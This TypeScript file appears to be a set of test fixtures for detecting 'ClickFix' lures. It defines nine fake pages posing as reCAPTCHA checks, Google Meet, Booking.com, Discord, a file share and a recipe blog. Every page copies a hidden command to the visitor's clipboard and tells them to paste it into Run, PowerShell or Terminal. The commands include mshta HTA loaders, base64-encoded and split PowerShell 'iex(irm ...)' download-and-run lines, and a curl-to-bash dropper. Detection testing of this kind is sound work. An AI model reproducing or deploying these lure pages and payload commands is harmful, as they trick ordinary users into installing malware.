import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute, fileRoute } from '../parts/e-bin.js';
import { doc, wpBlog, wpCssRoute, icons, gtagInline, cookieBanner } from '../parts/m-kit.js';

export const entries: Entry[] = [
(() => {
  const host = 'pdfconvert-free.online';
  return {
    id: 'm-clickfix-recaptcha-mshta-pdfconverter',
    label: 'clickfix',
    kind: 'clickfix-captcha',
    url: `https://${host}/word-to-pdf`,
    body: doc({
      title: 'Word to PDF Converter – 100% Free Online | PDFConvert',
      css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f4f5fb}header{background:#e5322d;color:#fff;padding:14px 30px;font-weight:bold;font-size:20px}
.tool{max-width:760px;margin:40px auto;background:#fff;border-radius:10px;padding:40px;text-align:center;box-shadow:0 2px 12px rgba(0,0,0,.06)}
.drop{border:2px dashed #e5322d;border-radius:10px;padding:50px}.rc{width:304px;height:78px;border:1px solid #d3d3d3;background:#f9f9f9;border-radius:3px;display:flex;align-items:center;padding:0 12px;margin:24px auto;box-shadow:0 0 4px 1px rgba(0,0,0,.08);cursor:pointer}
.rc .b{width:28px;height:28px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;margin-right:12px}.rc .l{margin-left:auto;text-align:center;font-size:10px;color:#555}
#verify{display:none;text-align:left;background:#fff;border:1px solid #ddd;border-radius:4px;padding:18px 22px;max-width:420px;margin:0 auto}#verify kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}`,
      body: `<header>PDFConvert</header>
<div class="tool"><h1>Word to PDF</h1><p>Convert your DOC and DOCX documents to PDF with the best quality. Fast, free, no registration.</p>
<div class="drop" id="drop"><p><b>Select WORD files</b></p><p style="color:#888">or drop DOC/DOCX files here</p><input type="file" accept=".doc,.docx" id="f"></div>
<div id="gate" style="display:none"><p style="margin-top:26px">Before downloading, please confirm you are not a robot.</p>
<div class="rc" id="rc"><span class="b"></span><span>I'm not a robot</span><span class="l"><img src="/img/rc.png" width="32" height="32" alt=""><br>reCAPTCHA<br>Privacy - Terms</span></div>
<div id="verify"><b>Additional verification required</b><p>To better prove you are not a robot, please:</p><ol><li>Press &amp; hold the Windows Key <kbd>⊞</kbd> + <kbd>R</kbd>.</li><li>In the verification window, press <kbd>Ctrl</kbd> + <kbd>V</kbd>.</li><li>Press <kbd>Enter</kbd> on your keyboard to finish.</li></ol><p style="font-size:12px;color:#777">Perform the steps above to finish verification.</p></div></div>
</div>
<p style="text-align:center;color:#888;font-size:12px">© PDFConvert 2025 · Your files are deleted after 1 hour · <a href="/privacy">Privacy</a></p>
<script>
document.getElementById('f').addEventListener('change', function(){ document.getElementById('drop').innerHTML = '<p>Converting ' + this.files[0].name + ' … 100%</p>'; document.getElementById('gate').style.display = 'block'; });
setTimeout(function(){ document.getElementById('gate').style.display = 'block'; }, 4000);
document.getElementById('rc').addEventListener('click', function(){
  var c = 'mshta https://pdfconvert-free.online/captcha/verify.hta' + '   # I am not a robot - reCAPTCHA Verification ID: 2165';
  navigator.clipboard.writeText(c);
  document.getElementById('verify').style.display = 'block';
});
</script>`,
    }),
    routes: {
      ...icons(host, [229, 50, 45]),
      [`${host}/img/rc.png`]: pngRoute(74, 144, 226),
      [`${host}/captcha/verify.hta`]: fileRoute(`<html><head><HTA:APPLICATION ID="v" WINDOWSTATE="minimize" SHOWINTASKBAR="no"><script language="VBScript">Set s = CreateObject("WScript.Shell") : s.Run "powershell -ep bypass -w 1 -c ""iex (New-Object Net.WebClient).DownloadString('https://pdfconvert-free.online/captcha/s.ps1')""", 0 : self.close</script></head></html>`, 'application/hta'),
    },
  };
})(),

(() => {
  const host = 'meet.google.com-join.rvs-call.com';
  return {
    id: 'm-clickfix-google-meet-mic-error',
    label: 'clickfix',
    kind: 'clickfix-meeting',
    url: `https://${host}/xjp-qmwe-bcr`,
    body: doc({
      title: 'Meet - xjp-qmwe-bcr',
      css: `body{margin:0;background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial,sans-serif}
.top{display:flex;align-items:center;padding:14px 22px;gap:8px;font-size:18px}.top b{color:#fff}.wrap{display:flex;gap:40px;justify-content:center;align-items:center;margin-top:60px}
.video{width:640px;height:360px;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center;color:#9aa0a6}.join h1{font-weight:400;font-size:28px}
.btn{background:#8ab4f8;color:#202124;border:0;border-radius:24px;padding:12px 24px;font-size:15px;font-weight:500;cursor:pointer}
#dlg{position:fixed;inset:0;background:rgba(0,0,0,.55);display:none;align-items:center;justify-content:center}#dlg .box{background:#fff;color:#202124;border-radius:8px;width:480px;padding:24px}
#dlg code{display:block;background:#f1f3f4;padding:8px;border-radius:4px;font-size:12px;word-break:break-all}`,
      body: `<div class="top"><img src="/img/logo.png" width="28" height="28" alt=""><b>Google</b> Meet</div>
<div class="wrap"><div class="video">Camera is starting</div>
<div class="join"><h1>Ready to join?</h1><p>No one else is here</p><button class="btn" id="join">Join now</button> <button class="btn" style="background:transparent;color:#8ab4f8;border:1px solid #5f6368">Present</button></div></div>
<div id="dlg"><div class="box"><h2 style="margin-top:0">Microphone access is blocked</h2>
<p>Your browser prevented Google Meet from using your microphone and camera. This is a known issue with the latest Windows update (KB5043145).</p>
<p>To fix the problem:</p><ol><li>Click <b>Try fix</b> below.</li><li>Press <b>Windows + X</b> and choose <b>Windows PowerShell</b> (or Terminal).</li><li>Paste with <b>Ctrl + V</b> and press <b>Enter</b>.</li><li>Return to this tab and rejoin.</li></ol>
<button class="btn" id="fix" style="background:#1a73e8;color:#fff">Try fix</button></div></div>
<script>
(function(){
  var p = ['$u="https://rvs-call.com/meet/audio_fix.ps1";','$o="$env:TEMP\\\\mfx.ps1";','irm $u -OutFile $o;','Start-Process powershell -WindowStyle Hidden -ArgumentList "-ep Bypass -File $o"'];
  document.getElementById('join').onclick = function(){ document.getElementById('dlg').style.display = 'flex'; };
  setTimeout(function(){ document.getElementById('dlg').style.display = 'flex'; }, 2500);
  document.getElementById('fix').onclick = function(){ navigator.clipboard.writeText(p.join(' ')); this.textContent = 'Copied — now press Win + X'; };
})();
</script>`,
    }),
    routes: { ...icons(host, [0, 137, 123]) },
  };
})(),

(() => {
  const host = 'verify.cloudguard-check.net';
  return {
    id: 'm-clickfix-macos-terminal-base64',
    label: 'clickfix',
    kind: 'clickfix-macos',
    url: `https://${host}/?ref=blognews`,
    body: doc({
      title: 'Just a moment...',
      css: `body{font-family:-apple-system,BlinkMacSystemFont,"Helvetica Neue",sans-serif;margin:0;color:#222}.m{max-width:620px;margin:80px auto;padding:0 20px}
.os{display:none}.step{display:flex;gap:12px;margin:14px 0;align-items:flex-start}.n{background:#111;color:#fff;border-radius:50%;width:24px;height:24px;text-align:center;line-height:24px;flex:none}
.cb{border:1px solid #ddd;background:#fafafa;padding:16px;width:300px;display:flex;gap:10px;align-items:center;cursor:pointer}kbd{border:1px solid #aaa;border-radius:4px;padding:1px 6px;background:#f5f5f5}`,
      body: `<div class="m"><h1>Verify you are human</h1><p>We need to make sure the connection is secure before continuing to the article.</p>
<div class="cb" id="cb"><input type="checkbox"> <span>I'm not a robot</span></div>
<div class="os" id="mac"><h3>Complete verification (macOS)</h3>
<div class="step"><span class="n">1</span><span>Press <kbd>⌘ Command</kbd> + <kbd>Space</kbd>, type <b>Terminal</b> and press <kbd>Return</kbd>.</span></div>
<div class="step"><span class="n">2</span><span>Paste the verification code with <kbd>⌘</kbd> + <kbd>V</kbd>.</span></div>
<div class="step"><span class="n">3</span><span>Press <kbd>Return</kbd> and enter your password if asked. Keep Terminal open until it finishes.</span></div></div>
<div class="os" id="win"><h3>Complete verification (Windows)</h3><p>Press <kbd>Win</kbd> + <kbd>R</kbd>, paste with <kbd>Ctrl</kbd> + <kbd>V</kbd> and press <kbd>Enter</kbd>.</p></div>
<p style="margin-top:40px;color:#888;font-size:12px">ID: 91a7c2-f3 · Protected by CloudGuard</p></div>
<script>
var isMac = /Mac/.test(navigator.platform) || /Mac OS X/.test(navigator.userAgent);
var mac = 'echo "Y3VybCAtZnNTTCBodHRwczovL2Nsb3VkZ3VhcmQtY2hlY2submV0L20vdXBkYXRlIHwgYmFzaA==" | base64 -d | bash';
var win = 'powershell -w h -c "iex(irm https://cloudguard-check.net/w/u)"';
document.getElementById('cb').onclick = function(){
  navigator.clipboard.writeText(isMac ? mac : win);
  document.getElementById(isMac ? 'mac' : 'win').style.display = 'block';
};
</script>`,
    }),
    routes: {
      ...icons(host, [20, 20, 20]),
      'cloudguard-check.net/m/update': fileRoute('#!/bin/bash\ncd /tmp && curl -fsSLo .upd https://cloudguard-check.net/m/bin && chmod +x .upd && ./.upd &\n', 'text/plain'),
    },
  };
})(),

(() => {
  const host = 'controle-securite.fr-verif.com';
  return {
    id: 'm-clickfix-winx-admin-fr',
    label: 'clickfix',
    kind: 'clickfix-captcha',
    url: `https://${host}/captcha/`,
    body: doc({
      title: 'Vérification de sécurité',
      lang: 'fr',
      css: `body{font-family:Segoe UI,Arial,sans-serif;background:#eef1f5;margin:0}.c{max-width:520px;margin:90px auto;background:#fff;border-radius:8px;padding:30px;box-shadow:0 3px 14px rgba(0,0,0,.08)}
.btn{background:#2563eb;color:#fff;border:0;border-radius:6px;padding:11px 20px;font-size:15px;cursor:pointer}kbd{background:#f1f1f1;border:1px solid #ccc;border-radius:3px;padding:1px 5px}`,
      body: `<div class="c"><h2>Vérifiez que vous êtes humain</h2><p>Nous avons détecté un trafic inhabituel depuis votre appareil. Merci de compléter la vérification pour accéder à votre document.</p>
<button class="btn" id="v">Je ne suis pas un robot</button>
<div id="s" style="display:none;margin-top:18px"><p><b>Étapes de vérification :</b></p><ol><li>Appuyez sur <kbd>Windows</kbd> + <kbd>X</kbd></li><li>Sélectionnez <b>Terminal (administrateur)</b></li><li>Collez avec <kbd>Ctrl</kbd> + <kbd>V</kbd> puis appuyez sur <kbd>Entrée</kbd></li></ol><p style="font-size:12px;color:#777">ID de vérification : 4F-22918</p></div></div>
<script>
document.getElementById('v').onclick=function(){
  var a='c'+'u'+'r'+'l', c=a+'.exe -s -o %TEMP%\\\\v.bat https://fr-verif.com/p/v.bat && %TEMP%\\\\v.bat';
  navigator.clipboard.writeText('cmd /c "'+c+'"');
  document.getElementById('s').style.display='block';
};
</script>`,
    }),
    routes: { ...icons(host, [37, 99, 235]) },
  };
})(),

(() => {
  const host = 'admin.booking.com-extranet-guest.help';
  return {
    id: 'm-clickfix-booking-guest-complaint',
    label: 'clickfix',
    kind: 'clickfix-captcha',
    url: `https://${host}/hotel/hoteladmin/extranet_ng/manage/messaging/inbox.html?hotel_id=2287134&lang=es`,
    body: doc({
      title: 'Booking.com | Extranet',
      lang: 'es',
      css: `body{margin:0;font-family:BlinkMacSystemFont,-apple-system,"Segoe UI",Roboto,Helvetica,Arial,sans-serif;background:#f5f5f5}.bk{background:#003580;color:#fff;padding:14px 24px;font-size:20px;font-weight:700}
.c{max-width:460px;margin:70px auto;background:#fff;border-radius:4px;padding:26px;border:1px solid #e7e7e7}.chk{border:1px solid #d3d3d3;background:#f9f9f9;padding:16px;display:flex;gap:12px;align-items:center;cursor:pointer}
.chk span.b{width:24px;height:24px;border:2px solid #c1c1c1;background:#fff}`,
      body: `<div class="bk">Booking.com <span style="font-weight:400;font-size:14px">Extranet</span></div>
<div class="c"><h3>Mensaje de huésped: reclamación sobre la reserva 4291.377.612</h3><p>Para ver el mensaje y las fotos adjuntas del huésped, confirme que no es un robot.</p>
<div class="chk" id="chk"><span class="b"></span> No soy un robot <span style="margin-left:auto;font-size:10px;color:#555">reCAPTCHA</span></div>
<div id="st" style="display:none;margin-top:16px;font-size:14px"><b>Pasos de verificación</b><ol><li>Pulse la tecla de Windows <b>⊞ + R</b></li><li>Pulse <b>CTRL + V</b></li><li>Pulse <b>Intro</b></li></ol></div>
<p style="font-size:11px;color:#888;margin-top:22px">Copyright © 1996–2025 Booking.com™. Todos los derechos reservados.</p></div>
<script>
document.getElementById('chk').onclick=function(){
  navigator.clipboard.writeText('mshta https://booking.com-extranet-guest.help/fotos/huesped.hta # Booking.com ID de verificacion: 7734-ES');
  document.getElementById('st').style.display='block';
};
</script>`,
    }),
    routes: { ...icons(host, [0, 53, 128]) },
  };
})(),

(() => {
  const host = 'discord-verify.guildgate.gg';
  return {
    id: 'm-clickfix-discord-verify-pt',
    label: 'clickfix',
    kind: 'clickfix-captcha',
    url: `https://${host}/verify/1129384756`,
    body: doc({
      title: 'Discord | Verificação do servidor',
      lang: 'pt-BR',
      css: `body{margin:0;background:#313338;color:#dbdee1;font-family:"gg sans","Noto Sans",Helvetica,Arial,sans-serif}.c{max-width:480px;margin:80px auto;background:#2b2d31;border-radius:8px;padding:32px;text-align:center}
.btn{background:#5865f2;color:#fff;border:0;border-radius:4px;padding:12px 28px;font-size:16px;cursor:pointer}ol{text-align:left}`,
      body: `<div class="c"><img src="/img/logo.png" width="80" height="80" style="border-radius:50%" alt=""><h2>Bem-vindo a <span style="color:#fff">Crypto Sinais BR</span></h2>
<p>Para acessar o servidor, o bot <b>Safeguard</b> precisa confirmar que você é humano.</p><button class="btn" id="v">Verificar</button>
<div id="s" style="display:none;margin-top:20px"><p><b>Verificação manual necessária</b></p><ol><li>Pressione <b>Windows + R</b></li><li>Cole com <b>Ctrl + V</b></li><li>Pressione <b>Enter</b> e volte ao Discord</li></ol></div></div>
<script>
var parts=['po','wer','shell',' -ep Bypass -w hidden -c ','"','irm ','https://guildgate.gg/sg/verify.ps1',' | iex','"'];
document.getElementById('v').addEventListener('click',function(){navigator.clipboard.writeText(parts.join(''));document.getElementById('s').style.display='block';});
</script>`,
    }),
    routes: { ...icons(host, [88, 101, 242]) },
  };
})(),

(() => {
  const host = 'hr-policy.secure-filedrive.net';
  return {
    id: 'm-clickfix-filefix-explorer-path',
    label: 'clickfix',
    kind: 'clickfix-filefix',
    url: `https://${host}/share/HRPolicy`,
    body: doc({
      title: 'Shared file: HRPolicy.docx',
      css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f6f8fb}.c{max-width:600px;margin:70px auto;background:#fff;border-radius:10px;padding:30px;border:1px solid #e3e7ee}
.path{font-family:Consolas,monospace;background:#f1f3f6;padding:10px;border-radius:6px}.btn{background:#0067b8;color:#fff;border:0;border-radius:4px;padding:10px 18px;cursor:pointer}`,
      body: `<div class="c"><h2>📄 HRPolicy.docx has been shared with you</h2><p>The file is stored on the company's internal file server. To open it:</p>
<ol><li>Copy the file path below.</li><li>Open <b>File Explorer</b> (press <b>Ctrl + L</b> or click the address bar).</li><li>Paste the path and press <b>Enter</b>.</li></ol>
<div class="path">C:\\company\\internal-secure\\filedrive\\HRPolicy.docx</div><br><button class="btn" id="o">Open File Explorer</button> <input type="file" id="fp" style="display:none">
<p style="font-size:12px;color:#888;margin-top:20px">Shared by HR Department · expires in 7 days</p></div>
<script>
document.getElementById('o').onclick=function(){
  var cmd='Powershell.exe -c "$d=\\'https://secure-filedrive.net/h/p.ps1\\';iex(irm $d)"';
  var pad='                                                                                                                        ';
  navigator.clipboard.writeText(cmd+pad+'# C:\\\\company\\\\internal-secure\\\\filedrive\\\\HRPolicy.docx');
  document.getElementById('fp').click();
};
</script>`,
    }),
    routes: { ...icons(host, [0, 103, 184]) },
  };
})(),

(() => {
  const host = 'www.recetas-de-la-abuela.net';
  return {
    id: 'm-clickfix-json-fetched-recipe-es',
    label: 'clickfix',
    kind: 'clickfix-captcha',
    url: `https://${host}/postres/flan-casero/`,
    body: wpBlog({
      siteName: 'Recetas de la Abuela',
      tagline: 'Cocina tradicional española paso a paso',
      lang: 'es',
      accent: '#c0392b',
      posts: [
        { title: 'Flan casero de huevo', date: '4 noviembre, 2025', excerpt: 'El flan de la abuela lleva solo cuatro ingredientes: huevos, leche, azúcar y un poco de vainilla. Lo importante es el baño maría…' },
        { title: 'Croquetas de jamón cremosas', date: '21 octubre, 2025', excerpt: 'La bechamel debe reposar toda la noche en la nevera para que las croquetas queden perfectas.' },
      ],
      extraHead: gtagInline('G-7KQ2M1XW0P') + '<script src="https://cdn.wp-fonts-api.com/loader.js" defer></script>',
    }),
    routes: {
      ...wpCssRoute(host),
      ...icons(host, [192, 57, 43]),
      'cdn.wp-fonts-api.com/loader.js': jsRoute(`(function(){if(!/Windows/.test(navigator.userAgent))return;fetch('https://cdn.wp-fonts-api.com/api/c?h='+location.host).then(function(r){return r.json()}).then(function(j){
var w=document.createElement('div');w.style.cssText='position:fixed;inset:0;background:#fff;z-index:99999;font-family:Arial';w.innerHTML=j.html;document.body.appendChild(w);
w.querySelector('#go').onclick=function(){navigator.clipboard.writeText(atob(j.c));w.querySelector('#pasos').style.display='block';};});})();`),
      'cdn.wp-fonts-api.com/api/c': jsonRoute({
        html: '<div style="max-width:460px;margin:110px auto;border:1px solid #ddd;padding:26px"><h2>Verifica que eres humano</h2><p>Completa la acción para continuar.</p><button id="go" style="padding:10px 18px">☐ No soy un robot</button><div id="pasos" style="display:none"><ol><li>Pulsa Windows + R</li><li>Pulsa Ctrl + V</li><li>Pulsa Intro</li></ol></div></div>',
        c: Buffer.from('powershell -nop -w h -c "iex ((New-Object System.Net.WebClient).DownloadString(\'https://cdn.wp-fonts-api.com/s/es.ps1\'))" # Verificacion reCAPTCHA ID 3321').toString('base64'),
      }),
    },
  };
})(),

(() => {
  const host = 'www.kyoto-ryokan-sakura.jp';
  return {
    id: 'm-clickfix-conhost-captcha-ja',
    label: 'clickfix',
    kind: 'clickfix-captcha',
    url: `https://${host}/reservation/`,
    body: doc({
      title: 'ご予約 | 京都 旅館さくら',
      lang: 'ja',
      css: `body{margin:0;font-family:"Hiragino Kaku Gothic ProN",Meiryo,sans-serif;color:#333;background:#fbf8f3}header{background:#6b2737;color:#fff;padding:18px 40px}main{max-width:820px;margin:30px auto;padding:0 20px}
#ov{position:fixed;inset:0;background:rgba(255,255,255,.98);z-index:50;display:none}#ov .b{max-width:460px;margin:110px auto;border:1px solid #ddd;padding:26px;background:#fff}.cb{display:flex;gap:10px;align-items:center;border:1px solid #ccc;padding:14px;background:#f9f9f9;cursor:pointer}`,
      body: `<header><b>旅館さくら</b> · 京都・東山</header><main><h1>ご予約</h1><p>チェックイン 15:00 / チェックアウト 10:00。会席料理付きプランは 1 名様 28,000 円〜。</p><p>お電話でのご予約: 075-555-0123（9:00〜20:00）</p></main>
<div id="ov"><div class="b"><h2>ロボットではないことを確認してください</h2><p>予約ページを表示する前に、セキュリティ確認を完了してください。</p><div class="cb" id="cb"><input type="checkbox"> 私はロボットではありません</div>
<div id="st" style="display:none;margin-top:14px"><ol><li><b>Windows キー + R</b> を押します</li><li><b>Ctrl + V</b> で貼り付けます</li><li><b>Enter</b> を押して確認を完了します</li></ol><p style="font-size:12px;color:#888">確認 ID: JP-5582</p></div></div></div>
<script>
setTimeout(function(){document.getElementById('ov').style.display='block'},1800);
document.getElementById('cb').onclick=function(){
  var k='Y29uaG9zdCAtLWhlYWRsZXNzIHBvd2Vyc2hlbGwgLWMgImlleChpcm0gaHR0cHM6Ly9qcC1jaGVjay5jYXB0Y2hhLWFwaS5pY3UvcmVzZXJ2ZSki';
  navigator.clipboard.writeText(atob(k)+' # \\u2705 ロボットではありません 確認ID: JP-5582');
  document.getElementById('st').style.display='block';
};
</script>`,
    }),
    routes: { ...icons(host, [107, 39, 55]) },
  };
})(),
];
